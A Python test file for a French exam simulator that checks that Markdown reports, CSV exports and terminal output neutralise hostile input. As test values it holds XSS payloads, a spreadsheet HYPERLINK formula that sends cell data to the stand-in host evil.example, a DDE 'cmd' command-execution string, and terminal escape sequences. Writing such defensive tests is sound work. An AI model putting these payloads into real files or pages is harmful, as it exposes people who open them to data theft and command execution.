"""Hostile text in reports and exports: Markdown/HTML injection and spreadsheet formulas.

Issue 15: Markdown reports passed ``<script>`` and ``<img onerror>`` through; CSV exports were open to
formula injection (``=HYPERLINK(…)``, ``+cmd|…``, a leading tab stripped to ``=1+1``).
"""

from __future__ import annotations

import csv
import io
import random
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from exam_support import KEY, begin, exam_scenario, play_randomly
from factories import MINIMAL
from hypothesis import given
from hypothesis import strategies as st

from simulator.cli.main import cli
from simulator.exam.cohort import build_cohort, to_csv
from simulator.exam.record import load_exam
from simulator.exam.report import render_markdown as jury_markdown
from simulator.report.csv_cells import csv_cell
from simulator.report.markdown import md_text

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
LINK = "[ici](javascript:alert(1))"


def test_markdown_text_cannot_open_html_links_or_blocks():
    out = md_text(f"{SCRIPT} {IMG} {LINK} &lt; a|b `c`\n# titre\r\n> citation")
    assert "<" not in out and ">" not in out and "\n" not in out and "\r" not in out
    assert out.startswith("&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=alert(1)&gt;")
    assert r"\[ici\](javascript:alert(1))" in out and "&amp;lt;" in out and r"a\|b \`c\`" in out
    assert md_text("Ardoise & Tuffeau, question_ouverte") == "Ardoise & Tuffeau, question_ouverte"
    assert md_text(12.5) == 12.5


@given(st.text())
def test_no_text_opens_an_html_tag_or_a_new_line_in_markdown(text):
    out = md_text(text)
    assert "<" not in out and ">" not in out and not re.search(r"[\r\n\u2028\u2029]", out)
    assert not re.search(r"(?<!\\)(?:\\\\)*[\[\]`|*]", out.replace("\\\\", ""))  # every opener is escaped


def test_the_learner_markdown_report_shows_hostile_content_as_text(tmp_path, home):
    hostile = (MINIMAL.replace('"Bonjour."', f'"Bonjour {IMG}"')
               .replace("Qu'attendez-vous de nous ?", f"Qu'attendez-vous {SCRIPT} {LINK} ?"))
    path = tmp_path / "hostile.yaml"
    path.write_text(hostile, encoding="utf-8")
    runner = CliRunner()
    played = runner.invoke(cli, ["play", "--plain", "--learner", "Léa <b>[/oops]</b>", str(path)],
                           input="question\nconclure\n")
    assert played.exit_code == 0, played.output
    [journal] = sorted((home / "sessions").glob("*.jsonl"))
    md = runner.invoke(cli, ["report", str(journal), "--format", "md"]).output
    assert "<script" not in md and "<img" not in md and "<b>" not in md
    assert not re.search(r"(?<!\\)\]\(javascript", md) and "\\[ici\\](javascript" in md
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md and "&lt;img src=x onerror=alert(1)&gt;" in md
    assert "Léa &lt;b&gt;\\[/oops\\]&lt;/b&gt;" in md


def test_the_jury_markdown_report_escapes_the_candidate_and_the_lines(tmp_path):
    run, clock = begin(exam_scenario(tmp_path), tmp_path / "r", candidate=f"Léa {IMG}", seed=3)
    play_randomly(run, clock, random.Random(3))
    md = jury_markdown(load_exam(run.path, KEY))
    assert "<img" not in md and "Léa &lt;img src=x onerror=alert(1)&gt;" in md
    assert "&lt\u202f;" not in md and "&nbsp;" in md  # French spacing leaves entities whole


@pytest.mark.parametrize("value", ['=HYPERLINK("http://evil.example/?"&A1;"clic")', "+cmd|' /C calc'!A0", "-2+3",
                                   "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1"])
def test_a_cell_a_spreadsheet_would_run_starts_with_an_apostrophe(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Léa Martin", "-3", "12,5", "14.25", "2025-06-02 10:10", "", "a=b"])
def test_ordinary_cells_and_numbers_are_unchanged(value):
    assert csv_cell(value) == value


@given(st.text())
def test_no_cell_starts_a_formula(text):
    cell = csv_cell(text)
    assert cell == text or cell == "'" + text
    if cell == text and text and not re.fullmatch(r"-?[0-9]+(?:[.,][0-9]+)?", text):
        assert text[0] not in "\t\r\n" and text.lstrip(" \t\r\n\u00a0\u202f\u3000")[:1] not in "=+-@＝＋－＠"


def test_the_cohort_csv_writes_a_formula_name_as_text(tmp_path):
    folder = tmp_path / "r"
    run, clock = begin(exam_scenario(tmp_path), folder, candidate="=HYPERLINK(\"http://evil.example\";\"x\")", seed=5)
    play_randomly(run, clock, random.Random(5))
    cohort = build_cohort([Path(run.path)], KEY)
    rows = list(csv.reader(io.StringIO(to_csv(cohort)), delimiter=";"))
    assert rows[1][0] == "'=HYPERLINK(\"http://evil.example\";\"x\")"
    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_a_control_character_from_an_edited_journal_is_shown_not_obeyed(tmp_path, home):
    from simulator.content.loader import load_scenario
    from simulator.engine.session import ChoiceInput
    from simulator.stdio import printable
    from simulator.store.recorder import RecordedSession

    assert printable("a\x1b[2Jb\u202ec\td\ne\x9b") == "a\\x1b[2Jb\\u202ec\td\ne\\x9b"
    path = tmp_path / "mini.yaml"
    path.write_text(MINIMAL, encoding="utf-8")
    rec = RecordedSession.start(load_scenario(path), seed=1, learner="Léa\x1b[2J\u202e")  # not through the CLI
    for choice in ("question", "conclure"):
        rec.step(ChoiceInput(choice))
    for fmt in ("md", "text"):
        out = CliRunner().invoke(cli, ["report", str(rec.path), "--format", fmt]).output
        assert "\x1b" not in out and "\u202e" not in out
    assert "Léa\\x1b\\[2J\\u202e" in CliRunner().invoke(cli, ["report", str(rec.path), "--format", "md"]).output
